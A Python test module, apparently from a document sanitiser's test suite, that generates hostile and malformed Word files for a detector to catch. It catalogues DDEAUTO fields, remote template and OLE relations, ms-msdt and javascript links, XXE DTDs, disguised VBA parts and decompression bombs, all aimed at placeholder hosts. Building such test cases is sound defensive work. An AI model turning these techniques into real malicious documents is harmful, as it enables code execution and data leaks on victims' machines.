"""Dangerous and damaged things in a Word file, by many ways, each bearing the mark that is looked
for afterwards; and sound ones.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from random import Random

from tests.attack.detect import MARK
from tests.attack.packages import changed, parts_of
from tests.attack.workbooks import cut, flipped, inside_out

Way = Callable[[bytes, Random], bytes]
BODY, SETTINGS, TYPES = "word/document.xml", "word/settings.xml", "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
OF_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OF_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
OUTSIDE = (
    f"http://{MARK}.example/x",
    f"https://{MARK}.example/x",
    f"file:///C:/{MARK}.docx",
    f"FILE:///C:/{MARK}.docx",
    f"\\\\{MARK}.example\\share\\x",
    f"ftp://{MARK}.example/x",
    f"mhtml:http://{MARK}.example/x!y",
    f"//{MARK}.example/x",
    f"C:\\{MARK}\\x.dotm",
    f"../../{MARK}.dotm",
)
LINKS = (
    f"javascript:{MARK}()",
    f"JavaScript:{MARK}()",
    f"java&#10;script:{MARK}()",
    f"vbscript:{MARK}",
    f"ms-msdt:/id {MARK}",
    f"search-ms:query={MARK}",
    f"ms-word:ofe|u|http://{MARK}.example/x",
    f"data:text/html,{MARK}",
    f"file://{MARK}/x",
    f"\\\\{MARK}\\x",
    f"http://{MARK}.example/",
    f"tel:{MARK}",
    f" javascript:{MARK}()",
    f"%6aavascript:{MARK}()",
)
FIELDS = (
    f'DDEAUTO c:\\\\windows\\\\{MARK} "/c calc"',
    f"ddeauto {MARK} x",
    f"DDE {MARK} x",
    f'INCLUDETEXT "C:\\\\{MARK}.docx"',
    f'INCLUDEPICTURE "http://{MARK}.example/p"',
    f'IncludePicture "\\\\\\\\{MARK}\\\\p.png" \\d',
    f"IMPORT {MARK}",
    f"LINK Excel.Sheet.8 C:\\\\{MARK}.xls",
    f"DATABASE \\d {MARK}",
    f"MACROBUTTON {MARK} press",
    f"QUOTE {MARK}",
    f"EMBED {MARK}",
    f"RD {MARK}.docx",
    f"PRINT {MARK}",
    f"GOTOBUTTON {MARK} x",
    f"ASK {MARK} x",
    f"FILLIN {MARK}",
    f"AUTOTEXT {MARK}",
    f"AUTOTEXTLIST {MARK}",
    f"SET {MARK} 1",
    f"= 1 + {MARK}",
    f"MERGEFIELD {MARK}",
    f"DOCVARIABLE {MARK}",
    f"ADDIN {MARK}",
    f"PRIVATE {MARK}",
    f"HTMLACTIVEX {MARK}",
    f'HYPERLINK "javascript:{MARK}()"',
    f'HYPERLINK "file:///{MARK}"',
    f"HYPERLINK \\\\\\\\{MARK}\\\\x",
    f'HYPERLINK "ms-msdt:{MARK}"',
    f"GLOSSARY {MARK}",
    f"SHAPE {MARK}",
    f"INCLUDE {MARK}",
    f"FILENAME \\p {MARK}",
    f"USERNAME {MARK}",
    f"IF 1=1 {MARK}",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A group and a name of its own for the table, and how it is done."""

    group: str
    name: str
    way: Way


def paragraph(inside: str) -> str:
    return f'<w:p><w:pPr><w:pStyle w:val="Normal"/></w:pPr>{inside}</w:p>'


def run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def in_body(package: bytes, xml: str) -> bytes:
    """Return a document with something after its first paragraph."""
    return changed(
        package, {BODY: parts_of(package)[BODY].replace(b"</w:p>", b"</w:p>" + xml.encode(), 1)}
    )


def appended(package: bytes, part: str, end: str, xml: str) -> bytes:
    """Return a package with something before the last of an end tag of a part."""
    head, tag, tail = parts_of(package)[part].rpartition(end.encode())
    return changed(package, {part: head + xml.encode() + tag + tail})


def typed(package: bytes, **types: str) -> bytes:
    """Return a package whose content types name some endings ("bin") too."""
    return appended(
        package,
        TYPES,
        "</Types>",
        "".join(
            f'<Default Extension="{ending}" ContentType="{kind}"/>'
            for ending, kind in types.items()
        ),
    )


def related(
    package: bytes,
    kind: str,
    target: str,
    *,
    outside: bool = True,
    part: str = BODY,
    named: str = "rIdEvil",
) -> bytes:
    """Return a package in which a part has one relation more; a kind without an address is one of
    Office's.
    """
    folder, _, name = part.rpartition("/")
    path, mode = f"{folder}/_rels/{name}.rels", ' TargetMode="External"' if outside else ""
    whole = kind if ":" in kind else f"{OF_OFFICE}/{kind}"
    item = f'<Relationship Id="{named}" Type="{whole}" Target="{escaped(target)}"{mode}/>'.replace(
        "&amp;#10;", "&#10;"
    )
    there = parts_of(package).get(
        path,
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
    )
    return changed(
        package, {path: there.replace(b"</Relationships>", item.encode() + b"</Relationships>")}
    )


# Fields


def _complex(code: str) -> str:
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {escaped(code)} </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{run("shown")}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _split(code: str) -> str:
    """Return a field whose code is spread over runs, letter by letter at its start."""
    pieces = [*code[:5], code[5:]]
    inside = "".join(
        f'<w:r><w:instrText xml:space="preserve">{escaped(piece)}</w:instrText></w:r>'
        for piece in pieces
    )
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{inside}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _nested(code: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        + _complex(code)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _simple(code: str) -> str:
    return f'<w:fldSimple w:instr=" {escaped(code)} ">{run("shown")}</w:fldSimple>'


def _unended(code: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{escaped(code)}</w:instrText></w:r>'


FORMS = {
    "complex": _complex,
    "split over runs": _split,
    "nested": _nested,
    "simple": _simple,
    "without an end": _unended,
}


def field(code: str, form: str, place: str) -> Way:
    def way(package: bytes, random: Random) -> bytes:
        inside = FORMS[form](code)
        if place == "header":
            return appended(package, "word/header1.xml", "</w:hdr>", paragraph(inside))
        if place == "text box":
            inside = (
                '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt"><v:textbox><w:txbxContent>'
                f"{paragraph(inside)}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
            )
        elif place == "inserted":
            inside = (
                f'<w:ins w:id="990" w:author="x" w:date="2021-01-01T00:00:00Z">{inside}</w:ins>'
            )
        elif place == "content control":
            inside = f"<w:sdt><w:sdtContent>{inside}</w:sdtContent></w:sdt>"
        return in_body(package, paragraph(inside))

    return way


# Relations that lead outside


def _used(kind: str) -> str:
    """Return what in the body uses a relation, for the kinds that are used there."""
    picture = (
        '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9" cy="9"/><wp:docPr id="991" name="p" '
        'descr="A picture."/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/'
        'picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdEvil"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
    )
    return {
        "image": paragraph(f"<w:r>{picture}</w:r>"),
        "hyperlink": paragraph(f'<w:hyperlink r:id="rIdEvil">{run("here")}</w:hyperlink>'),
        "oleObject": paragraph(
            '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Package" ShapeID="s" DrawAspect="Icon" '
            'ObjectID="_1" r:id="rIdEvil" UpdateMode="Always"/></w:object></w:r>'
        ),
        "subDocument": '<w:subDoc r:id="rIdEvil"/>',
        "aFChunk": '<w:altChunk r:id="rIdEvil"/>',
    }.get(kind, "")


def outside(kind: str, target: str) -> Way:
    def way(package: bytes, random: Random) -> bytes:
        return related(in_body(package, _used(kind)), kind, target)

    return way


def of_settings(kind: str, element: str, target: str) -> Way:
    def way(package: bytes, random: Random) -> bytes:
        return related(
            appended(package, SETTINGS, "<w:defaultTabStop", element), kind, target, part=SETTINGS
        )

    return way


# Parts that run, or hold other files


def part(kind: str, name: str, content: bytes, content_type: str, used: str = "") -> Way:
    """Put a part in, related to the document, and typed by its ending."""

    def way(package: bytes, random: Random) -> bytes:
        there = changed(package, {f"word/{name}": content})
        there = typed(there, **{name.rpartition(".")[2]: content_type})
        return related(in_body(there, used), kind, name, outside=False)

    return way


def main_type(kind: str) -> Way:
    """Let the content types call the document one with macros, or a template."""

    def way(package: bytes, random: Random) -> bytes:
        types = parts_of(package)[TYPES].replace(
            b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", kind.encode()
        )
        return part(
            f"{OF_MICROSOFT}/vbaProject",
            "something.bin",
            MACROS,
            "application/vnd.ms-office.vbaProject",
        )(changed(package, {TYPES: types}), random)

    return way


MACROS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + f"Attribute VB_Name = {MARK}".encode() * 40
CHUNK = f"<html><body>{MARK}</body></html>".encode()
OLE = paragraph(
    '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" ShapeID="s" DrawAspect="Icon" ObjectID="_1" r:id="rIdEvil"/></w:object></w:r>'
)
CONTROL = paragraph(
    '<w:r><w:object><w:control r:id="rIdEvil" w:name="c" w:shapeid="s"/></w:object></w:r>'
)
PARTS: dict[str, Way] = {
    "macros": part(
        f"{OF_MICROSOFT}/vbaProject",
        "vbaProject.bin",
        MACROS,
        "application/vnd.ms-office.vbaProject",
    ),
    "macros by another name": part(
        f"{OF_MICROSOFT}/vbaProject", "data.dat", MACROS, "application/vnd.ms-office.vbaProject"
    ),
    "macros by another type": part(f"{OF_MICROSOFT}/vbaProject", "media.png", MACROS, "image/png"),
    "macro-enabled": main_type("vnd.ms-word.document.macroEnabled.main+xml"),
    "macro-enabled template": main_type("vnd.ms-word.template.macroEnabledTemplate.main+xml"),
    "ActiveX": part(
        "control",
        "activeX1.xml",
        f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{MARK}"/>'.encode(),
        "application/vnd.ms-office.activeX+xml",
        CONTROL,
    ),
    "ActiveX without a place": part(
        "control",
        "thing.xml",
        f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{MARK}"/>'.encode(),
        "application/vnd.ms-office.activeX+xml",
    ),
    "OLE": part(
        "oleObject",
        "oleObject1.bin",
        MACROS,
        "application/vnd.openxmlformats-officedocument.oleObject",
        OLE,
    ),
    "OLE by another name": part("oleObject", "picture.emf", MACROS, "image/x-emf", OLE),
    "a package": part(
        "package", "Book.xlsm", MACROS, "application/vnd.ms-excel.sheet.macroEnabled.12", OLE
    ),
    "altChunk": part("aFChunk", "chunk.html", CHUNK, "text/html", '<w:altChunk r:id="rIdEvil"/>'),
    "altChunk as RTF": part(
        "aFChunk",
        "chunk.rtf",
        b"{\\rtf1 " + MARK.encode() + b"}",
        "application/rtf",
        '<w:altChunk r:id="rIdEvil"/>',
    ),
    "altChunk as MHT": part(
        "aFChunk", "chunk.mht", CHUNK, "message/rfc822", '<w:altChunk r:id="rIdEvil"/>'
    ),
    "glossary": part(
        "glossaryDocument",
        "glossary.xml",
        f'<w:glossaryDocument xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:docParts><w:docPart><w:docPartBody><w:p><w:r><w:t>{MARK}</w:t></w:r></w:p></w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>'.encode(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
    ),
    "key bindings": part(
        f"{OF_MICROSOFT}/keyMapCustomizations",
        "customizations.xml",
        f'<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0341"><wne:macro wne:macroName="{MARK}"/></wne:keymap></wne:keymaps></wne:tcg>'.encode(),
        "application/vnd.ms-word.keyMapCustomizations+xml",
    ),
    "toolbars": part(
        f"{OF_MICROSOFT}/attachedToolbars",
        "attachedToolbars.bin",
        MACROS,
        "application/vnd.ms-word.attachedToolbars",
    ),
}


def ribbon(package: bytes, random: Random) -> bytes:
    """Give the package a custom user interface that calls a macro."""
    there = changed(
        package,
        {
            "customUI/customUI.xml": f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="{MARK}"/>'.encode()
        },
    )
    rels = parts_of(there)["_rels/.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdUI" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" '
        b'Target="customUI/customUI.xml"/></Relationships>',
    )
    return changed(there, {"_rels/.rels": rels})


def frames(package: bytes, random: Random) -> bytes:
    """Give the document a page of frames that load another file."""
    there = part(
        "webSettings",
        "webSettings.xml",
        b'<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="'
        + OF_OFFICE.encode()
        + b'"><w:frameset><w:frame><w:sourceFileName r:id="rIdEvil"/></w:frame></w:frameset></w:webSettings>',
        "application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml",
    )(package, random)
    return related(there, "frame", f"http://{MARK}.example/f", part="word/webSettings.xml")


def entity(package: bytes, random: Random) -> bytes:
    """Give a part a DTD."""
    name = random.choice((BODY, SETTINGS, "word/styles.xml", "docProps/core.xml", TYPES))
    dtd = random.choice(
        (
            f'<!DOCTYPE x SYSTEM "http://{MARK}.example/x.dtd">',
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///{MARK}">]>',
            '<!DOCTYPE x [<!ENTITY a "' + MARK * 9 + '"><!ENTITY b "&a;&a;&a;&a;">]>',
        )
    )
    part_ = parts_of(package)[name]
    return changed(
        package,
        {
            name: re.sub(
                rb"\A(<\?xml.*?\?>)?", lambda found: found[0] + dtd.encode(), part_, count=1
            )
        },
    )


def mail_merge(package: bytes, random: Random) -> bytes:
    element = f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:connectString w:val="{MARK}"/><w:query w:val="{MARK}"/><w:dataSource r:id="rIdEvil"/></w:mailMerge>'
    there = parts_of(package)[SETTINGS].replace(
        b"<w:defaultTabStop", element.encode() + b"<w:defaultTabStop", 1
    )
    return related(
        changed(package, {SETTINGS: there}),
        "mailMergeSource",
        f"file:///C:/{MARK}.mdb",
        part=SETTINGS,
    )


def attached(target: str) -> Way:
    def way(package: bytes, random: Random) -> bytes:
        there = parts_of(package)[SETTINGS].replace(
            b"<w:defaultTabStop", b'<w:attachedTemplate r:id="rIdEvil"/><w:defaultTabStop', 1
        )
        return related(
            changed(package, {SETTINGS: there}), "attachedTemplate", target, part=SETTINGS
        )

    return way


def frame_link(package: bytes, random: Random) -> bytes:
    """Put a link on a picture's frame, with an action."""
    there = parts_of(package)[BODY].replace(b"<wp:docPr ", b'<wp:docPr hidden="0" ', 0)
    mouse = (
        f'<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="javascript:{MARK}()" target="_blank" style="width:9pt;height:9pt" '
        f'alt="{MARK}"/></w:pict></w:r>'
    )
    return in_body(changed(package, {BODY: there}), paragraph(mouse))


MIXED: dict[str, Way] = {
    "custom ribbon": ribbon,
    "frames": frames,
    "DTD": entity,
    "mail merge": mail_merge,
    "link on a drawing": frame_link,
    **{
        f"attached template at {target}": attached(target)
        for target in OUTSIDE
        if not target.lower().startswith("file:///")
    },
}
ACTIVE: tuple[Hostile, ...] = (
    *(
        Hostile("field", f"{code.split()[0]}, {form}, in the {place}", field(code, form, place))
        for place in ("body", "header", "text box", "inserted", "content control")
        for number, code in enumerate(FIELDS)
        for form in [list(FORMS)[(number + len(place)) % len(FORMS)]]
    ),
    *(
        Hostile("relation", f"{kind} to {target}", outside(kind, target))
        for kind in (
            "image",
            "oleObject",
            "subDocument",
            "aFChunk",
            "frame",
            "header",
            "styles",
            "externalLinkPath",
            f"{OF_MICROSOFT}/wordVbaData",
            "attachedTemplate",
            "stylesheet",
            "video",
        )
        for target in OUTSIDE
    ),
    *(
        Hostile("relation", f"hyperlink to {target}", outside("hyperlink", target))
        for target in LINKS
    ),
    *(Hostile("part", name, way) for name, way in PARTS.items()),
    *(Hostile("mixed", name, way) for name, way in MIXED.items()),
)


# Damage


def truncated_part(package: bytes, random: Random) -> bytes:
    parts = parts_of(package)
    name = random.choice(list(parts))
    return changed(package, {name: parts[name][: random.randrange(len(parts[name]) + 1)]})


def lost_part(package: bytes, random: Random) -> bytes:
    return changed(package, {random.choice(list(parts_of(package))): None})


def odd_element(package: bytes, random: Random) -> bytes:
    """Put an element where it does not belong, or a sign that XML cannot hold."""
    parts = parts_of(package)
    name = random.choice([name for name in parts if name.endswith((".xml", ".rels"))])
    piece = random.choice(
        (
            b"<!-- x -->",
            b"<?x y?>",
            b"<x/>",
            b"<w:p/>",
            b"<w:tbl/>",
            b"<w:sectPr/>",
            b"<w:tc/>",
            b"<w:t>x</w:t>",
            b"&#0;",
            b"\x00",
            b"\xff",
            b"<![CDATA[x]]>",
            b"<w:sdt/>",
            b"</w:p>",
            b"<w:r/>",
        )
    )
    places = [found.start() for found in re.finditer(rb"(?<=>)(?=<)", parts[name])]
    place = random.choice(places or [0])
    return changed(package, {name: parts[name][:place] + piece + parts[name][place:]})


def odd_attribute(package: bytes, random: Random) -> bytes:
    parts = parts_of(package)
    name = random.choice([name for name in parts if name.endswith((".xml", ".rels"))])
    places = list(re.finditer(rb'(?<=[\w:]=")[^"]*(?=")', parts[name]))
    if not places:
        return package
    found = random.choice(places)
    value = random.choice(
        (
            b"",
            b"-1",
            b"0",
            b"99999999999999999999",
            b"NaN",
            b"x",
            b"1.5",
            b"&amp;",
            b"\xc2\x85",
            b"rId1",
            b"Heading1",
            b"{{ x",
            b"../..",
            b"a" * 70_000,
        )
    )
    return changed(
        package, {name: parts[name][: found.start()] + value + parts[name][found.end() :]}
    )


def moved(package: bytes, random: Random) -> bytes:
    """Take an element of the body out, say it twice, or wrap it."""
    body = parts_of(package)[BODY]
    found = random.choice(
        list(
            re.finditer(
                random.choice(
                    (
                        rb"<w:p>.*?</w:p>",
                        rb"<w:tr>.*?</w:tr>",
                        rb"<w:tc>.*?</w:tc>",
                        rb"<w:r>.*?</w:r>",
                        rb"<w:pPr>.*?</w:pPr>",
                        rb"<w:sdt>.*?</w:sdt>",
                        rb"<w:tblGrid>.*?</w:tblGrid>",
                    )
                ),
                body,
                re.DOTALL,
            )
        )
        or [re.match(b"", body)]
    )
    assert found is not None
    whole = found[0]
    return changed(
        package,
        {
            BODY: body[: found.start()]
            + random.choice(
                (
                    b"",
                    whole * 2,
                    b"<w:x>" + whole + b"</w:x>",
                    b"<w:p>" + whole + b"</w:p>",
                    b"<w:sdt><w:sdtContent>" + whole + b"</w:sdtContent></w:sdt>",
                    whole * 300,
                )
            )
            + body[found.end() :]
        },
    )


@functools.cache
def _many(piece: bytes, times: int) -> bytes:
    return piece * times


def monstrous(package: bytes, random: Random) -> bytes:
    """Make the body, or a part beside it, unpack to far more than a paper needs."""
    piece = random.choice(
        (
            b"<w:p/>",
            b"<w:r/>",
            b"<w:sdt>",
            b"<w:p><w:r><w:t>x</w:t></w:r></w:p>",
            b" ",
            b"<w:tab/>",
            b"<w:bookmarkStart/>",
            b"<w:tbl>",
            b"<!---->",
            b"<w:smartTag>",
        )
    )
    many = _many(
        piece, random.choice((1_000, 60_000, 3_000_000, 20_000_000)) // (1 if len(piece) < 9 else 4)
    )
    name = random.choice(
        (BODY, BODY, "word/styles.xml", "word/media/image9.png", "docProps/app.xml", SETTINGS)
    )
    there = parts_of(package).get(name, b"x>")
    head, tag, tail = there.rpartition(b"</")
    return changed(package, {name: head + many + tag + tail})


DAMAGE: tuple[Hostile, ...] = tuple(
    Hostile("damage", name, way)
    for name, way in {
        "truncated part": truncated_part,
        "lost part": lost_part,
        "odd element": odd_element,
        "odd attribute": odd_attribute,
        "bytes": flipped,
        "cut": cut,
        "bytes of a part": inside_out,
        "moved": moved,
        "monstrous": monstrous,
    }.items()
)


# Sound


UNDERLINED = (
    '<w:r><w:rPr><w:u w:val="single"/></w:rPr><w:t xml:space="preserve">the report</w:t></w:r>'
)


def _in(xml: str) -> Way:
    return lambda package, random: in_body(package, xml)


def _linked(target: str) -> Way:
    return lambda package, random: related(
        in_body(
            package,
            paragraph(
                run("See ") + f'<w:hyperlink r:id="rIdEvil">{UNDERLINED}</w:hyperlink>' + run(".")
            ),
        ),
        "hyperlink",
        target,
    )


def _custom(package: bytes, random: Random) -> bytes:
    """A part of custom XML, as SharePoint leaves it."""
    there = changed(package, {"customXml/item1.xml": b"<x xmlns='urn:x'/>"})
    return related(there, "customXml", "../customXml/item1.xml", outside=False)


def _reformatted(package: bytes, random: Random) -> bytes:
    """The marks of editing that Word leaves: ids of sessions, proofing, where a page last broke."""
    body = parts_of(package)[BODY].replace(
        b"<w:p><w:pPr>", b'<w:p w:rsidR="00A1B2C3" w:rsidRDefault="00A1B2C3"><w:pPr>'
    )
    return changed(
        package,
        {
            BODY: body.replace(
                b"</w:pPr><w:r>",
                b'</w:pPr><w:proofErr w:type="spellStart"/><w:proofErr w:type="spellEnd"/><w:r>',
            )
        },
    )


SOUND: Mapping[str, Way] = {
    "https link": _linked("https://www.example.org/report?a=1&b=2"),
    "mailto link": _linked("mailto:secretary@example.org"),
    "page number": _in(
        paragraph(run("Page ") + _complex("PAGE") + run(" of ") + _complex("NUMPAGES"))
    ),
    "simple page number": _in(paragraph(run("Page ") + _simple("PAGE"))),
    "reference": _in(
        paragraph(
            '<w:bookmarkStart w:id="970" w:name="_Ref1"/>'
            + run("There.")
            + '<w:bookmarkEnd w:id="970"/>'
        )
        + paragraph(run("See ") + _complex("REF _Ref1 \\h"))
    ),
    "bookmark": _in(
        paragraph(
            '<w:bookmarkStart w:id="971" w:name="_GoBack"/><w:bookmarkEnd w:id="971"/>'
            + run("A sentence more.")
        )
    ),
    "link to a bookmark": _in(
        paragraph(
            '<w:bookmarkStart w:id="972" w:name="there"/>'
            + run("There.")
            + '<w:bookmarkEnd w:id="972"/>'
        )
        + paragraph(f'<w:hyperlink w:anchor="there">{UNDERLINED}</w:hyperlink>')
    ),
    "session ids": _reformatted,
    "custom XML": _custom,
}
